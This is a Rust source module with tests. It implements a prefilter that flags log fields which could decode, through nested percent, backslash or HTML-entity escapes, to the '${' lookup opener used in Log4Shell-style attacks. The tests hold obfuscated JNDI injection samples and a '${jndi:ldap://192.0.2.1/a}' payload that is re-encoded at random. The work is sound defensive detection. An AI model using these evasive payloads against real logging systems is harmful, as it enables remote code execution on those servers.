//! Whether a field could, under any nesting of the decoders, come to hold `${`.
//!
//! Complete by construction. The `$` of a decoded `${` is either written as it is, and then
//! followed by `{` or by an escape; or it is the value of an escape. An escape is written whole,
//! or its starter is itself the value of an escape, or one of its later characters is (and then a
//! starter stands inside it before it is complete). So it is enough to look for `$` before `{` or
//! a starter, for whole escapes whose value is `$` or a starter, and for escapes of these that a
//! starter interrupts. This holds for the log's own escaping too: `\\` is an interrupted escape.

use memchr::{memchr_iter, memchr3_iter};

/// What begins an escape.
const fn is_starter(byte: u8) -> bool {
    matches!(byte, b'%' | b'\\' | b'&')
}

/// Escapes of `$`, `%`, `\` and `&` without their starter, lower case. Numeric references and
/// UTF-16 escapes have any number of zeros or `u` and are taken whole, whatever their value.
const PERCENT: &[&[u8]] = &[b"24", b"25", b"26", b"5c", b"u"];
const BACKSLASH: &[&[u8]] = &[b"x24", b"x25", b"x26", b"x5c", b"u", b"044", b"045", b"046", b"134"];
const AMPERSAND: &[&[u8]] = &[b"#", b"dollar;", b"percnt;", b"bsol;", b"amp;"];

/// False proves that bytes that begin with these two are not suspicious. Asked without branches,
/// so that a compiler can ask it of many bytes at once.
#[inline(always)]
pub(crate) const fn may_begin(first: u8, second: u8) -> bool {
    let low = second | 0x20;
    let breaks = (second == b'%') | (second == b'\\') | (second == b'&');
    let percent = (second == b'2') | (second == b'5') | (low == b'u') | breaks;
    let names = (low == b'a') | (low == b'b') | (low == b'd') | (low == b'p');
    let ampersand = (second == b'#') | names | breaks;
    let dollar = (second == b'{') | breaks;
    ((first == b'%') & percent)
        | ((first == b'&') & ampersand)
        | ((first == b'$') & dollar)
        | (first == b'\\')
}

/// True when the text must be decoded and evaluated; false proves that it cannot matter.
pub(crate) fn may_hold_lookup(text: &str) -> bool {
    may_bytes_hold_lookup(text.as_bytes())
}

/// As [`may_hold_lookup`], of bytes that are text.
pub(crate) fn may_bytes_hold_lookup(bytes: &[u8]) -> bool {
    memchr3_iter(b'$', b'%', b'\\', bytes).any(|at| is_suspicious(&bytes[at..]))
        || memchr_iter(b'&', bytes).any(|at| is_suspicious(&bytes[at..]))
}

/// What begins with `$` or with a starter may become `${`, or a part of it.
pub(crate) fn is_suspicious(bytes: &[u8]) -> bool {
    let Some((&first, rest)) = bytes.split_first() else { return false };
    let escapes = match first {
        b'$' => return rest.first().is_some_and(|&next| next == b'{' || is_starter(next)),
        b'%' => PERCENT,
        b'\\' => BACKSLASH,
        _ => AMPERSAND,
    };
    escapes.iter().any(|escape| begins_or_breaks(rest, escape))
}

/// The escape is written whole, or as far as the next starter.
fn begins_or_breaks(text: &[u8], escape: &[u8]) -> bool {
    for (index, expected) in escape.iter().enumerate() {
        match text.get(index) {
            Some(byte) if byte.to_ascii_lowercase() == *expected => {}
            Some(&byte) => return is_starter(byte),
            None => return false,
        }
    }
    true
}

#[cfg(test)]
mod tests {
    use testkit::Rng;

    use super::*;
    use crate::decode::{
        rounds,
        tests::{logged, spell, spelling},
    };

    #[test]
    fn spellings_that_word_lists_miss() {
        for text in [
            "${",
            "%24%7b",
            "$%7B",
            "%2524",
            "&amp;#36;{jndi:x}",
            "\\x2524{x}",
            "&percnt;24{x}",
            "&bsol;u0024{x}",
            "&Dollar;{x}",
            "%U0024{x}",
            "%%324{x}",
            "%2%34{x}",
            "\\u00%324{x}",
            "&#00036{",
            "&d%6fllar;{",
            "\\04\\x34{",
            "\\\\u0024",
            "$\\x7B",
        ] {
            assert!(may_hold_lookup(text), "{text}");
        }
    }

    #[test]
    fn ordinary_fields_pass_by() {
        for text in [
            "/index.html",
            "q=caf%C3%A9%20au+lait&page=2&lang=fr",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36",
            "price=5$,00&d=1",
            "a%2Fb&amount=3&b=%7B%7D",
            "caf\\xc3\\xa9",
        ] {
            assert!(!may_hold_lookup(text), "{text}");
        }
    }

    /// Goal: two bytes rule nothing out that the whole look finds. Method: what begins with `$` or
    /// a starter, every byte behind it, and then the rest of every escape or a starter.
    #[test]
    fn what_two_bytes_rule_out_is_never_suspicious() {
        let escapes = [PERCENT, BACKSLASH, AMPERSAND].concat();
        let mut rests: Vec<&[u8]> = vec![b"", b"%", b"\\", b"&", b"{"];
        rests.extend(escapes.iter().filter_map(|escape| escape.get(1..)));
        let (mut ruled_out, mut suspicious) = (0, 0);
        for first in *b"$%\\&" {
            for second in 0..=u8::MAX {
                let texts = rests.iter().map(|rest| [&[first, second], *rest].concat());
                let is_any = texts.into_iter().any(|text| is_suspicious(&text));
                assert!(may_begin(first, second) || !is_any, "{first} {second}");
                ruled_out += usize::from(!may_begin(first, second));
                suspicious += usize::from(is_any);
            }
        }
        assert!(ruled_out > 700 && suspicious > 30, "{ruled_out}, {suspicious}");
    }

    /// Goal: no effective payload passes the prefilter by. Method: payloads whose characters are
    /// spelled at random, layer over layer, up to four, each as a web server would log it. That
    /// the spellings are real ones is checked by decoding them; a few are not, where a numeric
    /// reference ends too early.
    #[test]
    fn no_nested_spelling_passes_by() {
        let mut rng = Rng::new(0x0024_007b);
        let mut real = 0;
        for number in 0..6_000 {
            let mut text = b"${jndi:ldap://192.0.2.1/a}".to_vec();
            let layers = 1 + rng.below(4);
            let percent = *rng.pick(&[3, 20, 60]);
            for _ in 0..layers {
                text = spell(&text, &mut rng, percent);
            }
            let text = logged(&String::from_utf8(text).unwrap(), &mut rng);
            assert!(may_hold_lookup(&text), "{number}: {text}");
            real += usize::from(rounds(&text).any(|bytes| holds_opening(&bytes)));
        }
        assert!(real > 5_850, "{real}");
    }

    /// As above, sharper: of `${`, and then of its spelling, one character alone is spelled, so
    /// that nothing else in the text can give it away.
    #[test]
    fn no_single_spelling_passes_by() {
        let mut rng = Rng::new(0xd0_11a2);
        let mut real = 0;
        for _ in 0..20_000 {
            let mut text = "${".to_owned();
            for _ in 0..1 + rng.below(4) {
                let at = rng.below(text.len());
                let spelled = spelling(text.as_bytes()[at], &mut rng);
                text.replace_range(at..=at, &spelled);
            }
            let text = logged(&text, &mut rng);
            if rounds(&text).any(|bytes| holds_opening(&bytes)) {
                real += 1;
                assert!(may_hold_lookup(&text), "{text}");
            }
        }
        assert!(real > 15_000, "{real}");
    }

    fn holds_opening(bytes: &[u8]) -> bool {
        bytes.windows(2).any(|pair| pair == b"${")
    }

    /// The same from the other side: what the prefilter lets pass never decodes to `${`.
    #[test]
    fn what_passes_by_never_decodes_to_a_lookup() {
        const PARTS: [&str; 24] = [
            "$", "{", "%", "\\", "&", "2", "4", "5", "c", "u", "0", "x", "#", "36", ";", "amp",
            "dollar", "bsol", "percnt", "7b", "044", "lbrace;", "123", "a",
        ];
        let mut rng = Rng::new(0x5eed);
        let mut passed = 0;
        for _ in 0..100_000 {
            let text: String = (0..2 + rng.below(10)).map(|_| *rng.pick(&PARTS)).collect();
            if !may_hold_lookup(&text) {
                passed += 1;
                assert!(!rounds(&text).any(|bytes| holds_opening(&bytes)), "{text}");
            }
        }
        assert!(passed > 5_000, "{passed}");
    }
}
